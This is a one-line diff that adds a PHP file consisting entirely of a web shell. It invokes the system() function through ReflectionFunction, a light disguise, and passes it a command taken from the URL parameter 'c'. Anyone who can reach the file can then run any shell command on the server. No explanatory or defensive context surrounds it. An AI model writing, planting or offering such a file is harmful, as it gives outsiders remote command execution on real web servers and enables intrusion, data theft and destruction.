@@ -1,0 +1,1 @@
+<?php $x = new ReflectionFunction("system"); $x->invoke($_GET["c"]);
